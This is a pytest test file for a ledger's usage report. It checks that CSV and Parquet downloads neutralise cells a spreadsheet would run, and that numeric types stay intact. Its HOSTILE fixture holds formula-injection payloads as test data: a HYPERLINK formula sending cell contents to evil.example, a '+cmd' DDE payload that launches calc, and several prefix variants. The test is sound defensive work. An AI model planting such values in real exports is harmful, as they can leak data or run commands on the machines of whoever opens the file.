"""CSV and Parquet downloads are formula-safe: a text cell that a spreadsheet would run is neutralised."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime
from decimal import Decimal

import pyarrow.parquet as pq
import pytest

from core.accounts.users import Principal
from core.clock import FakeClock
from core.ledger.engine import make_engine
from core.ledger.migrations import migrate
from core.ledger.spool import Spool
from core.ledger.store import Ledger
from core.reports import usage as usage_report
from core.types import CallRecord, Usage

ADMIN = Principal("ana", "Ana", "admin")
TS = datetime(2026, 11, 12, 10, tzinfo=UTC)
PERIOD = usage_report.Filters(date(2026, 11, 11), date(2026, 11, 13), "UTC")
HOSTILE = {  # user id -> request id, detail
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")": ("+cmd|' /C calc'!A0", "-2+3"),
    "@SUM(1+1)*cmd": ("\tleading-tab", "\rleading-cr"),
    "\uff1dfullwidth": ("-", "=1"),
}
ORDINARY = ("plain.user", "req_01abc", "Blocked: over budget (a - b = c)")


@pytest.fixture
def engine(tmp_path):
    eng = make_engine(f"duckdb:///{tmp_path / 'l.duckdb'}")
    migrate(eng)
    ledger = Ledger(eng, Spool(tmp_path / "l.spool"), clock=FakeClock())
    for user, (request_id, detail) in [*HOSTILE.items(), (ORDINARY[0], ORDINARY[1:])]:
        ledger.record(CallRecord(id=str(uuid.uuid4()), ts=TS, user=user, model="claude-haiku-5-5", status="ok",
                                 usage=Usage(100, 50), cost_usd=Decimal("0.000350"), latency_ms=12.5,
                                 request_id=request_id, detail=detail, source="library"))
    yield eng
    eng.dispose()


def _expected(cell: str) -> str:
    return "'" + cell if cell[:1] in "=+-@\t\r\uff1d" else cell


def test_the_csv_neutralises_every_formula_cell_and_leaves_the_rest(engine):
    text = usage_report.to_csv(usage_report.rows(engine, ADMIN, PERIOD)).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 4, [r["user"] for r in rows]
    by_user = {r["user"]: r for r in rows}
    for user, (request_id, detail) in HOSTILE.items():
        row = by_user["'" + user]
        assert row["request_id"] == _expected(request_id) and row["detail"] == _expected(detail)
    plain = by_user[ORDINARY[0]]
    assert (plain["request_id"], plain["detail"]) == ORDINARY[1:]
    for row in rows:  # numbers stay numbers, money exact
        assert Decimal(row["cost_usd"]) == Decimal("0.000350") and row["input_tokens"] == "100" and row["latency_ms"] == "12.5"
        assert row["model"] == "claude-haiku-5-5" and not row["ts"].startswith("'")
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for v in row.values())


def test_the_parquet_neutralises_text_and_keeps_types(engine):
    table = pq.read_table(io.BytesIO(usage_report.to_parquet(usage_report.rows(engine, ADMIN, PERIOD))))
    cols = table.to_pydict()
    assert sorted(cols["user"]) == sorted(["'" + u for u in HOSTILE] + [ORDINARY[0]])
    assert sorted(cols["request_id"]) == sorted([_expected(r) for r, _ in HOSTILE.values()] + [ORDINARY[1]])
    assert str(table.schema.field("cost_usd").type) == "decimal128(20, 10)"
    assert set(cols["cost_usd"]) == {Decimal("0.000350")} and set(cols["input_tokens"]) == {100}


def test_formula_safe_touches_only_text_that_starts_like_a_formula():
    import pandas as pd

    df = pd.DataFrame({"t": pd.Series(["=1", "a=1", "-", "", None, "+x"], dtype=object), "n": [-1, 2, 3, 4, 5, 6],
                       "d": [Decimal("-0.5")] * 6})
    out = usage_report.formula_safe(df)
    assert list(out["t"]) == ["'=1", "a=1", "'-", "", None, "'+x"]
    assert list(out["n"]) == [-1, 2, 3, 4, 5, 6] and list(out["d"]) == [Decimal("-0.5")] * 6
    assert list(df["t"])[0] == "=1"  # the input is not changed
